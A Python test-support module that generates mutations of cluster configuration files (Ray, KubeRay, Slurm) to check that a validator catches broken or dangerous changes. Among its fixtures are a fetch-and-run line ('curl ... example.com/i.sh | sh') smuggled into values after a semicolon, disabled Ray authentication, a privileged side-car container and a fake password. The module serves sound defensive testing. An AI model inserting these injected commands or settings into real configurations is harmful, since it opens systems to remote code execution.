"""Generated mutations of the shipped cluster files: every part dropped, misspelt, widened, negated, and dangers added everywhere."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from cluster.document import Place, dotted

HOSTILE = "; curl -s https://example.com/i.sh | sh"
DANGERS = (
    "export RAY_AUTH_MODE=disabled",
    "RUN curl -s https://example.com/i.sh | sh",
    "RUN pip install --trusted-host example.com ray",
    "export WANDB_API_KEY=0123456789abcdef0123456789abcdef01234567",
)
SIDE_CAR = {"name": "helper", "image": "recipe-finder:2.60.0-py311", "securityContext": {"privileged": True}}


@dataclass(frozen=True)
class Mutated:
    """One change: its kind and place, and what the file holds after it: a tree, or the text of a script."""

    kind: str
    place: str
    content: Any

    def __str__(self) -> str:
        return f"{self.kind} {self.place}"


def of_tree(tree: dict[str, Any]) -> Iterator[Mutated]:
    """Mutations of a YAML document; places inside merged or aliased parts count once for each place they appear at."""
    for place, value in _places(tree, ()):
        name = dotted(place)
        yield Mutated("drop", name, _changed(tree, place, None, drop=True))
        if isinstance(place[-1], str):
            yield Mutated("misspell key", name, _renamed(tree, place, misspelt(place[-1])))
            yield Mutated("swapped key", name, _renamed(tree, place, swapped(place[-1])))
            yield Mutated("longer key", name, _renamed(tree, place, place[-1] + place[-1][-1]))
        for kind, other in _values(value):
            yield Mutated(kind, name, _changed(tree, place, other))
        if isinstance(value, str) and "\n" in value:
            for inner in of_text(value):
                yield Mutated(inner.kind, f"{name}: {inner.place}", _changed(tree, place, inner.content))
        if isinstance(value, dict):
            yield Mutated("unknown key in", name, _changed(tree, place, {**value, "unknownKey": "x"}))
        if place[-1] == "containers":
            for group in ("initContainers", "ephemeralContainers"):
                yield Mutated(f"privileged {group} beside", name, _changed(tree, (*place[:-1], group), [SIDE_CAR]))
            yield Mutated("privileged side-car in", name, _changed(tree, place, [*value, SIDE_CAR]))


def of_text(text: str) -> Iterator[Mutated]:
    """Mutations of a script, by its lines and words; comments and blank lines are left alone."""
    lines = text.splitlines()
    for row, line in enumerate(lines):
        if not line.strip() or (line.startswith("#") and not line.startswith(("#SBATCH", "#!"))):
            continue

        def written(new: str | None, row: int = row) -> str:
            kept = [*lines[:row], *([] if new is None else [new]), *lines[row + 1 :]]
            return "\n".join(kept) + "\n"

        where = f"line {row + 1}"
        code = line.split("  # ")[0]
        yield Mutated("drop", f"{where}: {code}", written(None))
        yield Mutated("comment out", f"{where}: {code}", written("# " + line))
        yield Mutated("hostile", f"{where}: {code}", written(code.removesuffix("\\") + HOSTILE))
        if row and not line.startswith("#"):
            for danger in DANGERS:
                yield Mutated("hostile", f"{where}, before it: {danger}", written(f"{danger}\n{line}"))
        for word in dict.fromkeys(code.split()):
            if word in ("\\", "-", "&&", "||", "|", "{", "}", "--"):
                continue
            if len(word) > 2:
                yield Mutated("misspell", f"{where}: {word}", written(line.replace(word, misspelt(word), 1)))
                yield Mutated("swapped", f"{where}: {word}", written(line.replace(word, swapped(word), 1)))
                yield Mutated("longer", f"{where}: {word}", written(line.replace(word, word + word[-1], 1)))
            yield Mutated("drop word", f"{where}: {word}", written(line.replace(word, "", 1)))
            if any(letter.isdigit() for letter in word):
                wide = "".join("9" * 6 if letter.isdigit() else letter for letter in word)
                yield Mutated("widen", f"{where}: {word}", written(line.replace(word, wide, 1)))


def misspelt(word: str) -> str:
    """The word without the letter in its middle; a word of one or two letters is doubled."""
    return word[: len(word) // 2] + word[len(word) // 2 + 1 :] if len(word) > 2 else word + word


def swapped(word: str) -> str:
    """The word with the first two neighbours that differ in each other's place, its first letter left where it is."""
    for index in range(1, len(word) - 1):
        if word[index] != word[index + 1]:
            return word[:index] + word[index + 1] + word[index] + word[index + 2 :]
    return word + word[-1:]


def _values(value: Any) -> Iterator[tuple[str, Any]]:
    if isinstance(value, bool):
        yield "negate", not value
        yield "as text", str(value)
    elif isinstance(value, (int, float)):
        yield "widen", value * 1000 + 1000
        yield "negate", -value - 1
    elif isinstance(value, str):
        yield "misspell value", misspelt(value)
        yield "swapped value", swapped(value)
        yield "longer value", value + value[-1:]
        yield "hostile", value + HOSTILE
        yield "secret", value + " --password hunter2hunter2"
    elif isinstance(value, list):
        yield "empty", []
    elif isinstance(value, dict):
        yield "empty", {}


def _places(node: Any, at: Place) -> Iterator[tuple[Place, Any]]:
    items: Any = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, value in items:
        yield (*at, key), value
        yield from _places(value, (*at, key))


def _changed(tree: Any, place: Place, value: Any, drop: bool = False) -> Any:
    """A copy of the tree, shared with it beside the path to the place, with another value there."""
    if not place:
        return copy.deepcopy(value)
    step, rest = place[0], place[1:]
    node: Any = list(tree) if isinstance(tree, list) else dict(tree)
    if drop and not rest:
        del node[step]
    else:
        inner = node[step] if isinstance(node, list) else node.get(step)
        node[step] = _changed(inner, rest, value, drop)
    return node


def _renamed(tree: Any, place: Place, name: str) -> Any:
    step, rest = place[0], place[1:]
    if rest:
        node: Any = list(tree) if isinstance(tree, list) else dict(tree)
        node[step] = _renamed(node[step], rest, name)
        return node
    return {(name if key == step else key): value for key, value in tree.items()}


def plain(tree: Any) -> dict[str, Any]:
    """The tree without shared parts, as a file without anchors would read."""
    return json.loads(json.dumps(tree))


HARMLESS: tuple[
    tuple[str, str], ...
] = (  # pattern of "kind place", and why the file stays as safe and as cheap as it was
    (
        r"(misspell|longer|swapped) value (cluster_name|name|metadata.name|docker.container_name)$",
        "a name of the user's own",
    ),
    (r".* value .*(groupName|containers\[0\].name)$", "a name of the user's own"),
    (r"(misspell|longer|swapped) key available_node_types.gpu_\w+$", "a name of the user's own"),
    (
        r".* value (provider.project_id|provider.resource_group)$",
        "a name of the user's own; the cloud refuses another's",
    ),
    (r".* value (spec.entrypoint|envs.STORAGE)$", "another folder below the same storage"),
    (r"drop word setup: line 2: -q$", "pip says more"),
    (r"misspell run: line \d+: (10m|24h)$", "still a limit, and a shorter one"),
    (r"drop word run: line 10: --dashboard-host=127.0.0.1$", "the value is Ray's default"),
    (r"longer value (setup|run)$", "an empty line more"),
    (
        r"longer value \w+_start_ray_commands\[\d\]$",
        "the same word to the shell, or refused by Ray before a node starts",
    ),
    (r".*claimName$", "a name of the user's own; a pod without its claim does not start"),
    (
        r"(drop|misspell value|longer value|swapped value) auth.ssh_(private|public)_key$",
        "without its key ray up stops before a machine is made",
    ),
    (r".* value auth.ssh_user$", "SSH to a machine of the user's own is refused; nothing is started"),
    (r".* value provider.(head_ip|worker_ips\[\d\])$", "another address; SSH to it is refused"),
    (r"(drop|negate) docker.pull_before_run$", "tags name versions, so an image that is there already is the same"),
    (
        r"(drop|longer value|swapped value) docker.run_options\[0\]$",
        "another limit of open files; Ray warns where it is too low",
    ),
    (r".* docker.run_options\[2\]$", "sweep.run refuses a storage path that nodes do not share"),
    (r"drop upscaling_speed$|drop .*upscalingMode$", "the value is Ray's default"),
    (r"drop .*(min_workers|serviceType|backoffLimit|submissionMode|replicas)$", "the value is the default"),
    (r"(drop|negate|widen) .*\.priority$", "spot stays preferred, as the rule on it says"),
    (
        r".* value .*(ImageId|sourceImage|imagePublisher|imageOffer|imageSku|imageVersion)$",
        "the cloud refuses an image it has not",
    ),
    (r"drop .*VolumeType$|drop .*disks\[0\].type$", "another kind of disk of the same size"),
    (r"drop .*(diskSizeGb|osDiskSize)$", "the disk is as large as its image"),
    (r"drop .*scheduling.provisioningModel$", "standard is the default; a spot node's is refused by the rule on spot"),
    (r".* .*billingProfile(.maxPrice)?$", "spot is never dearer than on demand"),
    (r".*ttlSecondsAfterFinished$", "activeDeadlineSeconds and shutdownAfterJobFinishes end the cluster"),
    (r"(widen|drop) .*(runAsUser|runAsGroup)$", "another user without rights; files of the image stay readable"),
    (
        r".*(requests|requests.(cpu|memory)|nvidia.com/gpu|resources|limits.(cpu|memory))$",
        "still at most the limit, of a size that machines have",
    ),
    (
        r"drop .*rayStartParams.num-gpus$|(drop|empty) .*workerGroupSpecs\[\d\].rayStartParams$",
        "Ray reads the number from the limits",
    ),
    (r"drop .*restartPolicy$", "KubeRay writes Never"),
    (
        r"(drop|empty) .*workerGroupSpecs\[1\].*nodeSelector.*|unknown key in .*nodeSelector$",
        "a pod on any node, or one that waits and costs nothing",
    ),
    (r".*line 1: #!.*", "no command is behind the first line, and bash is found or the job ends"),
    (r".*(--job-name|--output)\S*$|drop word line 13: #SBATCH$", "a name of the user's own, or none"),
    (r"longer line \d+: --(cpus|gpus)-per-\w+=\d$", "Slurm refuses what no node has"),
    (r"(misspell|longer|swapped) line \d+: --time=24:00:00$", "still a time limit within a week"),
    (r".* line \d+: .*OMP_NUM_THREADS=1|.* line 20: (export.*)$", "one thread is faster, not safer"),
    (r".* line (16|17): .*", "words of a message, or a missing argument, which ends the script at once"),
    (r".* line 18: .*", "sweep.run refuses a plain path where there are several nodes"),
    (r".* line (21|22): (ray|python)=.*", "a program that is not there; set -e ends the script"),
    (r".* line 23: .*", "Ray itself ends without a token; this line only says how to make one"),
    (r".* line 25: .*", "a node list that cannot be read; set -e ends the script"),
    (r"drop word line \d+: --chown=ray:users$", "files of root, which everybody may read"),
    (r".* line \d+: --no-cache-dir$", "a larger image, or pip refuses the option and no image is made"),
)
